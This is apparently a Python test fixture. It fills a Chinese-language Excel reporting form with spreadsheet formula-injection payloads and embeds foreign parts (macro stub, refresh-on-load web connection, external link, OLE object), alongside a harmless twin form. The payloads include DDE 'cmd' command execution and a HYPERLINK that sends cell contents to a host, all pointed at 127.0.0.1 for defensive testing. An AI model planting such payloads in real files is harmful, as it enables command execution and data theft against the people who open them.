"""A filled form with hostile text in every place for words, and foreign parts beside it; and its harmless twin.

The twin has plain words where the hostile one has an attack, and the same figures: whatever is active in what
we make of the two must be the same.
"""

from __future__ import annotations

import re
import zipfile
from html import unescape
from io import BytesIO
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import openpyxl
from office import header_of

MARK = "127.0.0.1"
"""Stands in every attack, so that it can be looked for where nothing of it may be."""

ATTACKS = (
    '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"点击")',
    "=cmd|'/c 127.0.0.1'!A0",
    "+cmd|'/c 127.0.0.1'!A0",
    "-2+3+cmd|'/c 127.0.0.1'!A0",
    '@SUM(1,1)&"127.0.0.1"',
    '=DDE("cmd";"/c 127.0.0.1";"x")',
    '\t=WEBSERVICE("http://127.0.0.1:9/")',
    "\r=1+1&127.0.0.1",
    "\n=1+1&127.0.0.1",
    " =1+1&127.0.0.1",
    "＝1+1&127.0.0.1",
    "－1＋127.0.0.1",
    "'=1+1&127.0.0.1",
    '"=1+1&127.0.0.1"',
    "\u202e=1+1&127.0.0.1",
    "\ufeff=1+1&127.0.0.1",
    "http://127.0.0.1:9/点这里",
    "external:\\\\127.0.0.1\\share\\a.xlsx",
    "internal:填报!A1 127.0.0.1",
    "{=127.0.0.1+1}",
    "\x01\x08控制\x0b字符\x1f127.0.0.1",
    "<f>127.0.0.1</f>",
    "{{ 127.0.0.1 }}{% for x in y %}",
    "<script src=http://127.0.0.1:9/></script>",
    "=127.0.0.1" + "长" * 3_000,
)
_TEXT_COLUMNS = ("进展情况", "存在问题", "需协调事项", "下步措施", "解释说明")
_SIGN_OFF = ("填报人", "联系电话", "审核人")
_LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_STUB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def send(form: Path, to: Path, values: dict[str, Any], *, hostile: bool, first: int = 0) -> None:
    """Fill a form with figures, and words or attacks from the `first` one on; save it as `to`.

    A value "ATTACK" among the figures is one too.
    """
    book = openpyxl.load_workbook(form)
    placed = _fill(book.worksheets[0], values)
    extra = book.create_sheet(f"={MARK}+1" if hostile else "附表")
    extra["A1"] = "占位900"
    if hostile:
        extra["B1"] = f'=HYPERLINK("http://{MARK}:9/","点这里")'
        extra["C1"].hyperlink = f"http://{MARK}:9/"
    saved = BytesIO()
    book.save(saved)
    words = {f"占位{number}": ATTACKS[(first + number) % len(ATTACKS)] for number in range(placed)}
    to.write_bytes(_planted(saved.getvalue(), words if hostile else {}, foreign=hostile))


def _fill(sheet: Any, values: dict[str, Any]) -> int:
    """Put a placeholder into every cell for words; return how many."""
    head, columns = header_of(sheet)
    rows = {str(sheet.cell(row, columns["序号"]).value): row for row in range(head + 1, sheet.max_row + 1)}
    places = [
        cell.offset(0, 1)
        for row in sheet.iter_rows(max_row=head)
        for cell in row
        if str(cell.value).strip("：:") in _SIGN_OFF
    ]
    for code, value in values.items():
        stage = value in ("推进中", "已完成")
        cell = sheet.cell(rows[code], columns["进展状态" if stage else "本期累计完成"])
        cell.value = value
        places += [cell] if value == "ATTACK" else []
        places += [sheet.cell(rows[code], columns[header]) for header in _TEXT_COLUMNS]
    for number, cell in enumerate(places):
        cell.value = f"占位{number}"
    assert len(places) > len(values)
    return len(places)


def _planted(data: bytes, words: dict[str, str], *, foreign: bool) -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        members = {name: old.read(name) for name in old.namelist()}
        for name in members:
            if name.startswith(("xl/worksheets/sheet", "xl/sharedStrings")):
                members[name] = _with_words(members[name].decode(), words)
        for name, content in (_with_foreign_parts(members) if foreign else members).items():
            new.writestr(name, content)
    return made.getvalue()


def _with_words(part: str, words: dict[str, str]) -> bytes:
    def put(found: re.Match[str]) -> str:
        text = escape(words.get(unescape(found[2]), unescape(found[2])))
        coded = re.sub(r"[\x00-\x08\x0b-\x1f]", lambda sign: f"_x{ord(sign[0]):04X}_", text)
        return f'<t xml:space="preserve">{coded}</t>'

    return re.sub(r"<t( [^>]*)?>([^<]*)</t>", put, part).encode()


def _with_foreign_parts(members: dict[str, bytes]) -> dict[str, bytes]:
    """Macros, a connection, an external workbook, an OLE object and a data model, tied in as Excel does."""
    parts = {
        "vbaProject": ("xl/vbaProject.bin", _STUB),
        "connections": ("xl/connections.xml", _CONNECTION),
        "externalLink": ("xl/externalLinks/externalLink1.xml", _EXTERNAL),
        "oleObject": ("xl/embeddings/oleObject1.bin", b"MZ" + bytes(200)),
        "powerPivotData": ("xl/model/item.data", bytes(300)),
        "customXml": ("customXml/item1.xml", f"<DataMashup>{MARK}</DataMashup>".encode()),
    }
    ties = "".join(
        f'<Relationship Id="rIdX{number}" Type="{_LINKS}/{kind}" Target="/{name}"/>'
        for number, (kind, (name, _)) in enumerate(parts.items())
    )
    rels, types = "xl/_rels/workbook.xml.rels", "[Content_Types].xml"
    macro_book = members[types].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    defaults = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    defaults += (
        b'<Default Extension="data" ContentType="application/vnd.openxmlformats-officedocument.model"/>'
    )
    return members | dict(parts.values()) | {
        rels: members[rels].replace(b"</Relationships>", f"{ties}</Relationships>".encode()),
        types: macro_book.replace(b"<Override", defaults + b"<Override", 1),
    }  # fmt: skip


_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_CONNECTION = (
    f'<connections {_MAIN}><connection id="1" name="q" type="4" refreshedVersion="6" background="1" '
    f'refreshOnLoad="1"><webPr xml="1" url="http://{MARK}:9/"/></connection></connections>'
).encode()
_EXTERNAL = (
    f'<externalLink {_MAIN}><externalBook xmlns:r="{_LINKS}" r:id="rId1"><sheetNames>'
    '<sheetName val="表"/></sheetNames></externalBook></externalLink>'
).encode()
